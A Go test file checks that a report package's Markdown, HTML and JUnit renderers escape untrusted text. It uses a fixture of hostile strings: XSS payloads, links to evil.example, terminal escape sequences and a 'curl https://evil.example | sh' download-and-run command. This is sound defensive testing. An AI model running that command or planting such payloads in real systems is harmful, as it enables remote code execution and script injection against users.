package reports

import (
	"bytes"
	"encoding/xml"
	"regexp"
	"strings"
	"testing"
)

// hostile is a document whose every string came from a hostile host or
// document: HTML, Markdown links and images, table pipes and terminal
// escapes.
func hostile() *Document {
	return &Document{
		SchemaVersion: SchemaVersion, Kind: KindRun, OS: "linux<b>", Arch: "amd64\x1b[2J",
		Harness:       Harness{Name: "conform", Version: "1 <script>alert(1)</script>"},
		MatrixVersion: "0 ![pixel](https://evil.example/p.png)",
		Host: Host{
			Command: "host `<script>` | x", Name: "<script>alert('name')</script>",
			Version: `<img src=x onerror="alert(1)">`,
		},
		Items: []Item{{
			Name: "n", Title: "t <a href=\"https://evil.example\">click</a>", Area: "a|b", Fixture: "fx\x1b]0;pwned\x07",
			File: "f.json", Status: Failed, Reason: "<img src=x onerror=alert(2)>\nsecond [link](https://evil.example)",
			Repro: "conform run x.json `<script>` | y\ncurl https://evil.example | sh",
		}},
	}
}

// ownTags are the HTML tags RenderMarkdown writes itself.
var ownTags = regexp.MustCompile(`<br>|</?details>|</?summary>`)

func TestMarkdownEscapesUntrustedText(t *testing.T) {
	var b bytes.Buffer
	if err := RenderMarkdown(&b, hostile()); err != nil {
		t.Fatal(err)
	}
	md := b.String()
	// Markup is shown as it is inside a code span; outside one, only
	// RenderMarkdown's own tags may be HTML.
	if rest := ownTags.ReplaceAllString(withoutCodeSpans(md), ""); strings.Contains(rest, "<") {
		t.Errorf("the Markdown holds raw HTML besides its own tags:\n%s", md)
	}
	if regexp.MustCompile(`(^|[^\\])\]\(`).MatchString(md) {
		t.Errorf("the Markdown holds a link or image:\n%s", md)
	}
	for _, bad := range []string{"\x1b", "\x07"} {
		if strings.Contains(md, bad) {
			t.Errorf("the Markdown holds %q:\n%s", bad, md)
		}
	}
	expectContains(t, "Markdown", md, `&lt;script&gt;alert('name')&lt;/script&gt;`, `fx\\x1b\]0;pwned\\x07`, `a\|b`)
	// Every table row keeps its columns: no pipe of the document splits a
	// cell.
	for _, line := range strings.Split(md, "\n") {
		if !strings.HasPrefix(line, "| ") {
			continue
		}
		if n := len(regexp.MustCompile(`(^|[^\\])\|`).FindAllString(line, -1)); n != 5 && n != 7 {
			t.Errorf("table row with %d cell borders: %s", n, line)
		}
	}
}

// rendered is d rendered by r; an error fails the test.
func rendered(t *testing.T, r Renderer, d *Document) string {
	t.Helper()
	var b strings.Builder
	if err := r(&b, d); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// expectContains reports each of wants that got, the text of what, lacks.
func expectContains(t *testing.T, what, got string, wants ...string) {
	t.Helper()
	for _, want := range wants {
		if !strings.Contains(got, want) {
			t.Errorf("the %s lacks %q:\n%s", what, want, got)
		}
	}
}

// withoutCodeSpans removes the code spans of one-line Markdown: a run of
// backticks up to the next run of the same length.
func withoutCodeSpans(md string) string {
	var b strings.Builder
	for {
		i := strings.Index(md, "`")
		if i < 0 {
			return b.String() + md
		}
		n := len(md[i:]) - len(strings.TrimLeft(md[i:], "`"))
		fence := md[i : i+n]
		end := -1
		for j := i + n; j < len(md); {
			k := strings.Index(md[j:], fence)
			if k < 0 {
				break
			}
			k += j
			if m := len(md[k:]) - len(strings.TrimLeft(md[k:], "`")); m == n {
				end = k
				break
			} else {
				j = k + m
			}
		}
		if end < 0 {
			return b.String() + md
		}
		b.WriteString(md[:i])
		md = md[end+n:]
	}
}

func TestHTMLEscapesUntrustedText(t *testing.T) {
	var b bytes.Buffer
	if err := RenderHTML(&b, hostile()); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	for _, bad := range []string{"<script>alert", "<img", `<a href="https://evil`, "\x1b"} {
		if strings.Contains(page, bad) {
			t.Errorf("the HTML page holds %q", bad)
		}
	}
	if !strings.Contains(page, `<code>conform run x.json `+"`"+`&lt;script&gt;`+"`"+` | y\ncurl https://evil.example | sh</code>`) {
		t.Errorf("the repro command is not shown on one line, as text")
	}
	if n := strings.Count(page, "<script"); n != 1 {
		t.Errorf("the HTML page holds %d <script> elements, want only its own", n)
	}
}

func TestJUnitEscapesUntrustedText(t *testing.T) {
	var b bytes.Buffer
	if err := RenderJUnit(&b, hostile()); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), "\x1b") || strings.Contains(b.String(), "<script>") {
		t.Errorf("the JUnit XML holds raw markup or escapes:\n%s", b.String())
	}
	var back junitSuites
	if err := xml.Unmarshal(b.Bytes(), &back); err != nil {
		t.Fatalf("the JUnit XML does not parse: %v\n%s", err, b.String())
	}
	if c := back.Suites[0].Cases[0]; c.Failure == nil || !strings.Contains(c.Failure.Body, "<img src=x onerror=alert(2)>") {
		t.Errorf("the failure does not carry the reason as text: %+v", c.Failure)
	}
}

// TestRenderersCountItemsNotTheSummary renders a document whose summary
// says nothing failed although an item did.
func TestRenderersCountItemsNotTheSummary(t *testing.T) {
	d := &Document{
		SchemaVersion: SchemaVersion, Kind: KindCertify, Harness: Harness{Name: "conform", Version: "x"},
		Host: Host{Command: "h"}, OS: "linux", Arch: "amd64", MatrixVersion: "0",
		Items: []Item{
			{ID: 1, Title: "one", Area: "a", Status: Passed},
			{ID: 2, Title: "two", Area: "a", Status: Failed, Reason: "it broke", Repro: "conform certify --only 2"},
		},
		Summary: Summary{Passed: 2},
	}
	md := rendered(t, RenderMarkdown, d)
	expectContains(t, "Markdown", md, "## conform certify: ❌ failed", "| 1 | 1 | 0 | 0 |", "### Failures (1)", "| 2 | two | it broke |")
	page := rendered(t, RenderHTML, d)
	expectContains(t, "HTML page", page, `<span class="verdict failed">failed</span>`, `<div class="count failed"><b>1</b>failed</div>`, "<h2>Failures (1)</h2>", "— 1 failed, 1 passed</title>")
	junit := rendered(t, RenderJUnit, d)
	if !strings.Contains(junit, `<testsuites name="conform" tests="2" failures="1"`) {
		t.Errorf("the JUnit XML does not count the failure:\n%s", junit)
	}
	if d.Summary != (Summary{Passed: 2}) {
		t.Errorf("rendering changed the document's summary to %+v", d.Summary)
	}
}

// TestJUnitSaysNotApplicableOnce checks that a not-applicable item whose
// reason already lists its scenarios as "not applicable: …" is not
// prefixed a second time, and one with a plain reason is.
func TestJUnitSaysNotApplicableOnce(t *testing.T) {
	d := &Document{SchemaVersion: SchemaVersion, Kind: KindCertify, Items: []Item{
		{ID: 12, Name: "a", Title: "a", Area: "checkpoint", Status: NotApplicable, Reason: "not applicable: final-report-failure: no store"},
		{ID: 13, Name: "b", Title: "b", Area: "workspace", Status: NotApplicable, Reason: "no store"},
	}}
	out := rendered(t, RenderJUnit, d)
	if strings.Contains(out, "not applicable: not applicable") {
		t.Errorf("a not-applicable item says so twice:\n%s", out)
	}
	expectContains(t, "JUnit report", out, `message="not applicable: final-report-failure: no store"`, `message="not applicable: no store"`)
}

// TestMarkdownListsNotApplicableScenarios checks that the Markdown summary
// lists every scenario that did not apply, with its item and reason, a
// passed item's too.
func TestMarkdownListsNotApplicableScenarios(t *testing.T) {
	d := &Document{SchemaVersion: SchemaVersion, Kind: KindCertify, Items: []Item{
		{ID: 102, Ref: "R2", Name: "a", Title: "a", Area: "research", Status: Passed,
			NotApplicable: []NotApplicableScenario{{Scenario: "review-only-denied", Reason: "needs full_contract"}}},
	}}
	d.Tally()
	b := rendered(t, RenderMarkdown, d)
	if want := "| R2 | ✅ passed | review-only-denied | needs full\\_contract |"; !strings.Contains(b, want) {
		t.Errorf("the Markdown summary lacks %q:\n%s", want, b)
	}
}

// TestHTMLCountsNotApplicableScenarios checks that the HTML page counts the
// scenarios that did not apply and marks a passed item that has some.
func TestHTMLCountsNotApplicableScenarios(t *testing.T) {
	d := &Document{SchemaVersion: SchemaVersion, Kind: KindCertify, Items: []Item{
		{ID: 102, Ref: "R2", Name: "a", Title: "a", Area: "research", Status: Passed, Reason: "not applicable: review-only-denied: needs full_contract",
			NotApplicable: []NotApplicableScenario{{Scenario: "review-only-denied", Reason: "needs full_contract"}}},
	}}
	d.Tally()
	b := rendered(t, RenderHTML, d)
	expectContains(t, "HTML page", b, "<b>1</b>scenarios not applicable", `<span class="why">1 scenarios not applicable</span>`, `title="not applicable: review-only-denied: needs full_contract"`)
}
